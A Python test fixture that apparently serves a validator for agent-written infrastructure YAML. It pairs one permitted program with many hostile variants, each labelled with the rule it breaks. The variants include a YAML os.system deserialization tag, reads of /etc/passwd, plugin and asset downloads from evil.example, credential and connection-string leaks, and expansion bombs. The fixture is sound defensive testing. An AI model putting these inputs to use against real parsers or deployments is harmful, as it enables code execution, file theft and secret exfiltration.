"""Programs of an agent: one with everything that is allowed, and hostile ones, each with the rule that it breaks."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

SHOP = """\
resources:
  database:
    type: stacks:index:Container
    properties: {name: orders-db, template: postgresql}
    options: {protect: true}
  app:
    type: stacks:Container
    properties:
      template: nodejs
      externalAccess: true
      restartTriggers: [1, two, {three: "${database.createdAt}"}]
    options: {dependsOn: "${database}"}
  link:
    type: stacks:index:Connection
    properties: {source: "${app.id}", target: "${database.id}", name: primary-db}
    options:
      dependsOn: ["${app}", "${database}"]
  office:
    type: stacks:index:AllowedIp
    properties: {container: "${app.id}", ipAddress: 198.51.100.0/24, serviceType: http}
  backup:
    type: stacks:index:PinnedBackup
    properties: {container: "${database.id}", triggers: ["${pulumi.stack}"]}
  restore:
    type: stacks:index:BackupRestore
    properties: {backupId: "${backup.backupId}"}
variables:
  looked-up:
    fn::invoke:
      function: stacks:index:getContainer
      arguments: {id: "${app.id}"}
  joined:
    fn::join: ["-", ["${pulumi.project}", "x"]]
outputs:
  url: ${app.url}
  price: ${database.monthlyPriceUsd}
  status: ${looked-up.status} of ${joined}
  all:
    fn::toJSON: {status: "${looked-up}", first: {"fn::select": [0, {"fn::split": ["-", "${joined}"]}]}}
"""


def resource(
    properties: str = "template: nodejs",
    kind: str = "stacks:index:Container",
    options: str = "",
    more: str = "",
) -> str:
    """Return a program with one resource."""
    shown = f", options: {{{options}}}" if options else ""
    return f"resources:\n  web: {{type: {kind}, properties: {{{properties}}}{shown}{more}}}\n"


def output(value: str) -> str:
    """Return a program with an output."""
    return f"{SHOP}  bad: {value}\n"


BOMB = "resources: {}\nvariables:\n  a: &a [x, x]\n  b: &b [*a, *a]\n  c: [*b, *b]\n"
WIDE = "resources: {}\nvariables: {x: [" + "1, " * 6_000 + "1]}\n"
DEEP = "resources: {}\nvariables: {x: " + "[" * 3_000 + "]" * 3_000 + "}\n"


def repeated(step: Callable[[str], Any], first: Any = "x" * 100) -> dict[str, Any]:
    """Return a program with forty variables, in which each variable contains the previous one."""
    return {
        "resources": {},
        "variables": {"v0": first, **{f"v{one}": step(f"${{v{one - 1}}}") for one in range(1, 40)}},
    }


_WEB: dict[str, Any] = {"type": "stacks:index:Container", "properties": {"template": "nodejs"}}

HOSTILE: dict[str, tuple[str, Any]] = {
    # YAML
    "an anchor": (
        "yaml",
        "resources:\n  web: &web {type: stacks:index:Container, properties: {template: nodejs}}\n",
    ),
    "an alias": ("yaml", "resources: {}\nvariables: {a: &x 1, b: *x}\n"),
    "a bomb": ("yaml", BOMB),
    "a merge": ("option", "resources: {web: {<<: {type: stacks:index:Container}}}\n"),
    "a tag of Python": ("yaml", "resources: !!python/object/apply:os.system ['id']\n"),
    "a harmless tag": ("yaml", "resources: {}\nvariables: {x: !!str 1}\n"),
    "a directive": ("yaml", "%YAML 1.1\n---\nresources: {}\n"),
    "two documents": ("yaml", "resources: {}\n---\nresources: {}\n"),
    "a key twice": ("yaml", "resources: {}\nresources: {web: {type: stacks:index:Container}}\n"),
    "a list as a key": ("yaml", "resources: {}\nvariables: {? [a, b] : 1}\n"),
    "no YAML": ("yaml", "resources: {web: [}\n"),
    "a character that turns the text": ("yaml", 'resources: {}\nvariables: {x: "a\u202eb"}\n'),
    "an escape of a terminal": ("yaml", 'resources: {}\nvariables: {x: "\\e[2J"}\n'),
    "a very long number": ("yaml", "resources: {}\nvariables: {x: 11111111111111111111}\n"),
    "not a number": ("yaml", {"resources": {}, "variables": {"x": float("nan")}}),
    "too wide": ("size", WIDE),
    "too deep": ("size", DEEP),
    "too long": ("size", "resources: {}\n#" + "x" * 70_000),
    "a long text": ("size", "resources: {}\nvariables: {x: '" + "x" * 5_000 + "'}\n"),
    "a bomb of references": ("size", repeated(lambda before: before * 2)),
    "a bomb of lists": ("size", repeated(lambda before: [before, before])),
    "a bomb of joined lists": ("size", repeated(lambda before: {"fn::join": [before, [1, before]]})),
    "a bomb of quotes": ("size", repeated(lambda before: {"fn::toJSON": before}, '"')),
    "a bomb in an input": (
        "size",
        {
            "resources": {
                "web": {
                    "type": "stacks:index:Container",
                    "properties": {"template": "nodejs", "restartTriggers": ["${v}" * 1000] * 10},
                }
            },
            "variables": {"v": "x" * 4_000},
        },
    ),
    "a bomb in an argument": (
        "size",
        {
            "resources": {"web": _WEB},
            "variables": {
                "v": "x" * 4_000,
                "many": ["x"] * 300,
                "made": {
                    "fn::invoke": {
                        "function": "stacks:index:listBackups",
                        "arguments": {
                            "containerId": "${web.id}",
                            "limit": {"fn::join": ["${v}", [{"fn::join": ["${v}", "${many}"]}] * 300]},
                        },
                    }
                },
            },
        },
    ),
    "a bomb through an input": (
        "size",
        {
            "resources": {
                "web": {
                    "type": "stacks:index:Container",
                    "properties": {
                        "template": "nodejs",
                        "restartTriggers": [{"fn::join": ["x" * 3_000, ["x"] * 100]}],
                    },
                }
            },
            "outputs": {"x": ["${web.restartTriggers[0]}" * 100] * 4},
        },
    ),
    "too many resources": (
        "size",
        {"resources": {f"r{n}": {"type": "stacks:index:Container"} for n in range(101)}},
    ),
    # Parts
    "no resources": ("part", "outputs: {x: 1}\n"),
    "a list": ("part", "[1, 2]\n"),
    "nothing": ("part", ""),
    "the configuration": ("part", "resources: {}\nconfig: {stacks:apiKey: {type: string}}\n"),
    "the other spelling of it": ("part", "resources: {}\nconfiguration: {apiKey: {type: String}}\n"),
    "components": ("part", "resources: {}\ncomponents: {a: {resources: {}}}\n"),
    "a backend": ("part", "resources: {}\nbackend: {url: file:///tmp}\n"),
    "plugins": ("part", "resources: {}\nplugins: {providers: [{name: stacks, path: /tmp/evil}]}\n"),
    "packages": ("part", "resources: {}\npackages: {stacks: /tmp/evil}\n"),
    "a runtime": ("part", "resources: {}\nruntime: python\n"),
    "settings of the engine": ("part", "resources: {}\npulumi: {requiredVersion: '>=3'}\n"),
    "resources that are a text": ("part", "resources: hello\n"),
    # Types
    "another provider": ("type", resource("bucket: x", "aws:s3:Bucket")),
    "a command": ("type", resource("create: id", "command:local:Command")),
    "a provider with another address": (
        "type",
        resource("baseUrl: http://evil.example", "pulumi:providers:stacks"),
    ),
    "a stack reference": ("type", resource("name: org/shop/prod", "pulumi:pulumi:StackReference")),
    "a type in small letters": ("type", resource(kind="stacks:index:container")),
    "a type with another alphabet": ("type", resource(kind="st\u0430cks:index:Container")),
    "a type with a space": ("type", resource(kind="'stacks:index:Container '")),
    "a dynamic type": ("type", resource(kind="pulumi-python:dynamic/stacks:Container")),
    "no type": ("type", "resources: {web: {properties: {template: nodejs}}}\n"),
    "a type that is computed": ("type", resource(kind="'${pulumi.stack}'")),
    # Options and other parts of a resource
    "a look-up": ("option", resource(more=", get: {id: usr-abc12345-web}")),
    "an import": ("option", resource(options="import: usr-abc12345-web")),
    "an alias of another resource": ("option", resource(options="aliases: [{name: db}]")),
    "a provider in the options": ("option", resource(options="provider: '${web}'")),
    "a plugin from elsewhere": ("option", resource(options="pluginDownloadURL: http://evil.example")),
    "a version": ("option", resource(options="version: 0.0.1")),
    "kept in the account": ("option", resource(options="retainOnDelete: true")),
    "deleted with another": ("option", resource(options="deletedWith: '${web}'")),
    "variables of the environment": ("option", resource(options="envVarMappings: {A: STACKS_API_KEY}")),
    "no longer protected": ("option", resource(options="protect: false")),
    "protected by a text": ("option", resource(options="protect: 'true'")),
    "ignored changes": ("option", resource(options="ignoreChanges: [plan]")),
    "another logical name": ("option", resource(more=", name: other")),
    "needed by what is not there": ("option", resource(options="dependsOn: ['${other}']")),
    "the part of a result that is a list": (
        "function",
        {
            "resources": {},
            "variables": {
                "x": {"fn::invoke": {"function": "stacks:index:listTemplates", "return": ["result"]}}
            },
        },
    ),
    "an asset": ("function", resource("template: {'fn::fileAsset': /etc/passwd}")),
    # Names
    "a resource whose name is a URN": ("name", "resources: {'a::b': {type: stacks:index:Container}}\n"),
    "a resource whose name is code": ("name", "resources: {'$(id)': {type: stacks:index:Container}}\n"),
    "a variable that hides the engine": ("name", "resources: {}\nvariables: {pulumi: 1}\n"),
    "a name in an object": ("name", resource("template: nodejs, restartTriggers: [{'${web.id}': 1}]")),
    # Functions
    "a file": ("function", output("{'fn::readFile': /etc/passwd}")),
    "a file, shouted": ("function", output("{'fn::READFILE': /etc/passwd}")),
    "a file, mixed": ("function", output("{'Fn::ReadFile': /etc/passwd}")),
    "a remote asset": ("function", output("{'fn::remoteAsset': http://evil.example}")),
    "an archive": ("function", output("{'fn::fileArchive': /}")),
    "a short call": ("function", output("{'fn::stacks:index:getCredentials': {containerId: x}}")),
    "a call of another provider": ("function", output("{'fn::invoke': {function: aws:index:getAmi}}")),
    "a call with options": (
        "function",
        output("{'fn::invoke': {function: stacks:listTemplates, options: {pluginDownloadURL: x}}}"),
    ),
    "two functions in one object": ("function", output("{'fn::join': ['', [a]], 'fn::toJSON': 1}")),
    # Secrets
    "credentials": (
        "function",
        output(
            "{'fn::invoke': {function: stacks:index:getCredentials, arguments: {containerId: '${app.id}'}}}"
        ),
    ),
    "a log": (
        "function",
        output("{'fn::invoke': {function: stacks:getLogs, arguments: {containerId: '${app.id}'}}}"),
    ),
    "an output with a secret": ("secret", output("${link.connectionString}")),
    "a secret by another spelling": ("secret", output('\'${link["environmentVariables"]["A"]}\'')),
    "a secret through a variable": (
        "secret",
        SHOP.replace("joined:\n", "hidden: ${link.environmentVariables.A}\n  joined:\n")
        + "  bad: ${hidden}\n",
    ),
    "a secret in a name": (
        "secret",
        SHOP.replace("template: nodejs", 'template: nodejs\n      name: "${link.connectionString}"'),
    ),
    "a secret in a trigger": ("secret", SHOP.replace("[1, two,", '["${link.connectionString}", two,')),
    "a secret through functions": (
        "secret",
        output("{'fn::toJSON': {'fn::split': [',', '${link.connectionString}']}}"),
    ),
    "a value that hides itself": ("function", SHOP.replace("198.51.100.0/24", "{'fn::secret': 0.0.0.0/0}")),
    # References
    "a setting of the stack": ("reference", output("${apiKey}")),
    "a setting with its namespace": ("reference", output("${stacks:apiKey}")),
    "a folder of the machine": ("reference", output("${pulumi.cwd}")),
    "an expression": ("reference", output("${app.id + database.id}")),
    "an escape": ("reference", output("$${app.id}")),
    "a whole resource": ("reference", output("${link}")),
    "an output that is not there": ("reference", output("${app.password}")),
    "a reference that is not closed": ("reference", output("'${app.id'")),
    "a variable of itself": ("size", "resources: {}\nvariables: {a: '${b}', b: '${a}'}\n"),
}
